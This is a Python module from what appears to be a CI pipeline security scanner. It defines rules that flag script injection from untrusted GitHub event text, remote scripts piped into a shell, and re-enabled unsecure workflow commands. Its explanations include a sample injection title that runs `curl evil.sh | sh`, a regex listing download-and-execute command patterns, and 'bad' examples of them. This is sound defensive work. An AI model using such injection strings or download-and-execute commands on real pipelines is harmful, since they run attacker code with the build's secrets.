"""Untrusted text and remote code executed by pipeline steps."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

from cnsmm.findings import Severity
from cnsmm.kube.values import truthy
from cnsmm.rules.base import Hit, RuleContext, RuleMeta, Scope, rule
from cnsmm.rules.ci._common import (
    BUILD_SYSTEMS,
    GH_HARDENING,
    GH_HARDENING_URL,
    GITHUB,
    SCORECARD,
    command_lines,
    steps,
)
from cnsmm.sources.pipelines.actions import split_ref
from cnsmm.sources.pipelines.model import Pipeline

UNTRUSTED_CONTEXT = re.compile(
    r"github\.event\.(?:"
    r"issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)"
    r"|pages\.[^}]*?\.page_name|commits\.[^}]*?\.(?:message|author\.(?:email|name))"
    r"|head_commit\.(?:message|author\.(?:email|name))"
    r"|workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))|display_title)"
    r")|github\.head_ref"
)
"""Contexts an outsider controls (GitHub Security Lab list of untrusted inputs)."""
_EXPR = re.compile(r"\$\{\{(.*?)\}\}")


@rule(
    RuleMeta(
        id="CI-004",
        name="script-injection",
        title="Untrusted event text expanded into a shell command or script",
        severity=Severity.HIGH,
        scope=Scope.PIPELINE,
        targets=GITHUB,
        requirements=("DEV.DEV.L2.1", "DEV.DEV.L2.3"),
        what=(
            "Flags `${{ ... }}` expressions in `run:` (and in the `script` input of "
            "actions/github-script) that read attacker-controlled context: issue, pull request, "
            "comment, review and discussion titles and bodies, commit messages and authors, page "
            "names, `github.head_ref` and `pull_request.head.ref`/`head.label`."
        ),
        why=(
            "Expressions are substituted into the script text before the shell runs it. A title such "
            'as `a"; curl evil.sh | sh; echo "` becomes code running with the job\'s token and secrets.'
        ),
        fix=(
            "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) "
            'and use it quoted in the script (`"$TITLE"`).'
        ),
        bad='run: echo "${{ github.event.issue.title }}"',
        good='env:\n  TITLE: ${{ github.event.issue.title }}\nrun: echo "$TITLE"',
        references=(
            f"{GH_HARDENING}: Understanding the risk of script injections",
            GH_HARDENING_URL,
            f"{SCORECARD}: Dangerous-Workflow",
            "CWE-78",
            "CWE-94",
        ),
    )
)
def script_injection(p: Pipeline, ctx: RuleContext) -> Iterator[Hit]:
    for job, step in steps(p):
        lines = list(command_lines(p, step))
        if (
            step.uses
            and split_ref(step.uses)[0] == "actions/github-script"
            and isinstance(step.inputs.get("script"), str)
        ):

            script_step = replace(
                step, run=step.inputs["script"], run_line=step.inputs_line.get("script", step.uses_line)
            )
            lines += list(command_lines(p, script_step))
        for line, text in lines:
            for expr in _EXPR.finditer(text):
                found = UNTRUSTED_CONTEXT.search(expr.group(1))
                if found:
                    yield Hit(f'job "{job.id}" expands untrusted {found.group(0)} into a script', line=line)


_PIPE_TO_SHELL = re.compile(
    r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+(-\S+\s+)*)?(env\s+\S+=\S+\s+)*(ba|z|k|da|fi)?sh\b"
    r"|\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(python3?|perl|ruby|node|pwsh|powershell)\b"
    r"|\b(ba|z)?sh\s+(-c\s+)?[\"']?(<\(|\$\()\s*(curl|wget)\b"
    r"|\b(iex|Invoke-Expression)\b.*\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b"
    r"|\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|]*\|\s*(iex|Invoke-Expression)\b",
    re.IGNORECASE,
)


@rule(
    RuleMeta(
        id="CI-008",
        name="curl-pipe-shell",
        title="Remote script piped into a shell",
        severity=Severity.MEDIUM,
        scope=Scope.PIPELINE,
        targets=BUILD_SYSTEMS,
        requirements=("DEV.DEV.L2.1", "DEV.DEV.L3.1"),
        what=(
            "Flags commands that download and execute in one go: `curl ... | sh`/`bash`/`python`, "
            '`bash <(curl ...)`, `sh -c "$(wget ...)"`, PowerShell `iwr ... | iex`.'
        ),
        why=(
            "Whatever the server returns at that moment runs in the build with its secrets, unverified "
            "and unrecorded: a compromised host (as with Codecov's bash uploader in 2021) reaches every "
            "pipeline that pipes it."
        ),
        fix=(
            "Download to a file, verify its checksum or signature, then run it; better, use "
            "a pinned package or action."
        ),
        bad="curl -sSfL https://example.com/install.sh | sh",
        good="curl -sSfLo install.sh https://example.com/v1.2/install.sh\n"
        'echo "<sha256>  install.sh" | sha256sum -c -\nsh install.sh',
        references=(f"{SCORECARD}: Pinned-Dependencies (downloadThenRun)", "CWE-494", "CWE-829"),
    )
)
def curl_pipe_shell(p: Pipeline, ctx: RuleContext) -> Iterator[Hit]:
    for job, step in steps(p):
        for line, text in command_lines(p, step):
            if _PIPE_TO_SHELL.search(text):
                yield Hit(
                    f'job "{job.id}" pipes a download into an interpreter: {text.strip()[:100]}', line=line
                )


@rule(
    RuleMeta(
        id="CI-012",
        name="unsecure-commands-enabled",
        title="ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path",
        severity=Severity.HIGH,
        scope=Scope.PIPELINE,
        targets=GITHUB,
        requirements=("DEV.DEV.L2.1",),
        what="Flags `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` in workflow, job or step `env:`.",
        why=(
            "It turns back on the deprecated `::set-env` and `::add-path` workflow commands, which any "
            "text printed to the log can trigger (CVE-2020-15228): printing an attacker's issue title "
            "or a dependency's output can then set `LD_PRELOAD` or `PATH` for later steps."
        ),
        fix="Remove the variable and write to `$GITHUB_ENV` and `$GITHUB_PATH` files instead.",
        bad="env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true",
        good='run: echo "TOOL_HOME=/opt/tool" >> "$GITHUB_ENV"',
        references=(
            "CVE-2020-15228",
            "GitHub Changelog 2020-10-01: deprecating set-env and add-path",
            "CWE-77",
        ),
    )
)
def unsecure_commands_enabled(p: Pipeline, ctx: RuleContext) -> Iterator[Hit]:
    key = "ACTIONS_ALLOW_UNSECURE_COMMANDS"
    if truthy(p.env.get(key)):
        yield Hit(f"{key} is enabled for the whole workflow", line=p.env_line.get(key, 1))
    for job in p.jobs:
        env = job.raw.get("env") if isinstance(job.raw, dict) else None
        if isinstance(env, dict) and truthy(env.get(key)):
            yield Hit(f'{key} is enabled for job "{job.id}"', line=getattr(env, "key_lines", {}).get(key, job.line))
        for step in job.steps:
            if truthy(step.env.get(key)):
                yield Hit(
                    f'{key} is enabled for a step of job "{job.id}"', line=step.env_line.get(key, step.line)
                )
